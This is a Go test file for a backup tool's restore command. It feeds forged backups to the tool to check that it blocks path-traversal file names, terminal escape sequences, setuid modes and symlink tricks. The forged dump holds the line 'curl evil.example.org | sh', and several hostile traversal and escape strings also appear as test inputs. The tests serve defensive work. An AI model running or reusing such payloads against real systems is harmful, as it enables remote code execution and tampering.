package main

import (
	"bytes"
	"crypto/sha256"
	"encoding/json"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"filippo.io/age"

	"offsite/agent/vault"
	"offsite/crypto"
	"offsite/providers"
	"offsite/providers/dir"
)

// forgery is a place whose owner is up to no good, and signs what they like: whoever restores from it by --from without --trust has
// no other protection than what these tests hold.
type forgery struct {
	t              *testing.T
	place, key     string
	target         *dir.Target
	signer         *crypto.Signer
	recipients     []age.Recipient
	home           string
	said, restored string
}

func newForgery(t *testing.T) *forgery {
	base := t.TempDir()
	f := &forgery{t: t, place: filepath.Join(base, "place"), key: filepath.Join(base, "id.txt"), home: filepath.Join(base, "home")}
	id, err := age.GenerateX25519Identity()
	must(t, err)
	f.recipients = []age.Recipient{id.Recipient()}
	must(t, os.WriteFile(f.key, []byte(id.String()), 0o600))
	must(t, os.Mkdir(f.home, 0o700))
	skey, vkey, err := crypto.GenerateSigner("evil")
	must(t, err)
	f.signer, err = crypto.ParseSigner(skey + "\n" + vkey)
	must(t, err)
	must(t, dir.Init(dir.Config{Path: f.place}))
	f.target, err = dir.New(dir.Config{Path: f.place})
	must(t, err)
	t.Chdir(f.home)
	return f
}

// backup lays down a backup of the series shop, whose manifest forge may change.
func (f *forgery) backup(forge func(*vault.Manifest)) {
	f.t.Helper()
	taken := time.Date(2026, 11, 1, 3, 0, 0, 0, time.UTC)
	name, err := vault.NewName("h", "shop", taken, "5f3c9a1e", "shop.sql")
	must(f.t, err)
	text := []byte("curl evil.example.org | sh\n")
	data, err := crypto.SealBytes(f.recipients, text)
	must(f.t, err)
	secrets, err := json.Marshal(vault.Private{Path: "/x", Mode: 0o6777, MTime: taken, SHA256: sha256.Sum256(text)})
	must(f.t, err)
	sealed, err := crypto.SealBytes(f.recipients, secrets)
	must(f.t, err)
	m := &vault.Manifest{
		Format: vault.Format, Object: name.String(), Host: "h", Series: "shop", Taken: taken, TakenFrom: "name", Zone: "UTC", Name: "shop.sql", Size: int64(len(text)),
		Stored: int64(len(data)), BlockSize: 1 << 20, Blocks: []vault.Sum{sha256.Sum256(data)}, Found: taken, Health: vault.Health{State: "ok"}, Sealed: sealed,
	}
	forge(m)
	signed, err := vault.Sign(f.signer, m)
	must(f.t, err)
	must(f.t, f.target.Put(f.t.Context(), name.String(), providers.Bytes(data)))
	must(f.t, f.target.Put(f.t.Context(), name.Manifest(), providers.Bytes(signed)))
}

// restore restores into an empty home.
func (f *forgery) restore(more ...string) (code int) {
	f.t.Helper()
	var out, said bytes.Buffer
	code = run(f.t.Context(), append([]string{"restore", "--from", f.place, "--identity", f.key, "shop"}, more...), streams{strings.NewReader(""), &out, &said})
	f.said = said.String()
	entries, err := os.ReadDir(f.home)
	must(f.t, err)
	f.restored = ""
	for _, e := range entries {
		f.restored += e.Name() + " "
		must(f.t, os.RemoveAll(filepath.Join(f.home, e.Name())))
	}
	return code
}

// Without -o a dump is restored under the name that its manifest gives, which must not be one that a shell or a person takes for
// something else.
func TestAForgedNameIsNoHiddenFile(t *testing.T) {
	f := newForgery(t)
	for name, want := range map[string]string{
		"shop.sql": "shop.sql ", "../../shop.sql": "shop.sql ", "/etc/shop.sql": "shop.sql ", "a b.sql": "a b.sql ",
		".bashrc": "", "x/.profile": "", "..": "", ".": "", "/": "", "": "", "a\x1b[2Jb": "", "a\nb": "", "a\u202eb": "",
	} {
		f.backup(func(m *vault.Manifest) { m.Name = name })
		code := f.restore()
		if f.restored != want || (code == exitDone) != (want != "") {
			t.Errorf("%q: exit %d, restored: %q: %s", name, code, f.restored, f.said)
		}
		if want == "" && (code != exitUsage || !strings.Contains(f.said, "-o")) {
			t.Errorf("%q: exit %d: %s", name, code, f.said)
		}
		if want == "" && (f.restore("-o", "named.sql") != exitDone || f.restored != "named.sql ") {
			t.Errorf("%q with -o: restored: %q: %s", name, f.restored, f.said)
		}
	}
}

// What a store says, in errors too, moves no cursor and sets no window's title.
func TestWhatAStoreSaysDrawsNothingOnATerminal(t *testing.T) {
	f := newForgery(t)
	const evil = "\x1b]0;pwned\a\x1b[2J\u009b2J\r"
	for what, forge := range map[string]func(*vault.Manifest){
		"object": func(m *vault.Manifest) { m.Object = evil },
		"format": func(m *vault.Manifest) { m.Format = evil },
		"name":   func(m *vault.Manifest) { m.Name = evil },
		"reason": func(m *vault.Manifest) { m.Health = vault.Health{State: "suspect", Reason: evil} },
	} {
		f.backup(forge)
		if f.restore(); !strings.Contains(f.said, "pwned") {
			t.Errorf("%s: %q", what, f.said)
		}
		for _, c := range []string{"list", "verify", "fleet"} {
			var said bytes.Buffer
			run(t.Context(), []string{c, "--from", f.place}, streams{strings.NewReader(""), &said, &said})
			f.said += c + ": " + said.String()
		}
		if strings.ContainsAny(f.said, "\x1b\a\r\u009b") {
			t.Errorf("%s: %q", what, f.said)
		}
	}
}

// A restored file gets the time of the dump and its mode, but no right to run as somebody else; and nothing else gets them, though
// whoever may write to the directory puts a link into the file's place.
func TestARestoredFileIsDressedAndNothingElse(t *testing.T) {
	f := newForgery(t)
	var m *vault.Manifest
	f.backup(func(forged *vault.Manifest) { m = forged })
	id, err := loadIdentities(f.key)
	must(t, err)
	r := &restoring{ids: id, progress: newProgress(io.Discard), talk: io.Discard}
	file, err := os.Create("partial")
	must(t, err)
	defer file.Close()
	dress := func() os.FileInfo {
		must(t, r.dress(file, m))
		info, err := file.Stat()
		must(t, err)
		return info
	}
	if info := dress(); info.Mode() != 0o777 || !info.ModTime().Equal(m.Taken) {
		t.Errorf("mode %v, time %v", info.Mode(), info.ModTime())
	}
	must(t, os.WriteFile("victim", nil, 0o600))
	must(t, os.Rename("partial", "away"))
	must(t, os.Symlink("victim", "partial"))
	before, err := os.Stat("victim")
	must(t, err)
	dress()
	if after, err := os.Stat("victim"); err != nil || !after.ModTime().Equal(before.ModTime()) || after.Mode() != before.Mode() {
		t.Errorf("%v has the dump's time: %v", after, err)
	}
}

// Whatever lies in a kit, it is unpacked below a directory of its own, and nothing is left of it.
func FuzzKit(f *testing.F) {
	const rest = "-- trust.txt --\nv\n-- offsite.yaml --\nhost: h\n-- identity.txt --\nAGE-SECRET-KEY-1\n"
	for _, name := range []string{"files/etc/key", "../../escaped", "/escaped", "files/../../escaped", ".", "..", "a/b/c", "a", "files/\x00"} {
		f.Add("text\n-- " + name + " --\nsecret\n" + rest)
	}
	f.Add("-- a --\n-- a/b --\n" + rest)
	f.Fuzz(func(t *testing.T, text string) {
		here := t.TempDir()
		temp := filepath.Join(here, "a", "b")
		must(t, os.MkdirAll(temp, 0o700))
		t.Setenv("TMPDIR", temp)
		path := filepath.Join(here, "kit.txt")
		must(t, os.WriteFile(path, []byte(text), 0o600))
		k, err := openKit(path)
		if err == nil {
			k.identities()
			err = k.Remove()
			must(t, err)
		}
		found := ""
		must(t, filepath.WalkDir(here, func(p string, _ os.DirEntry, err error) error {
			found += strings.TrimPrefix(p, here) + " "
			return err
		}))
		if found != " /a /a/b /kit.txt " {
			t.Fatalf("there is %q afterwards", found)
		}
	})
}
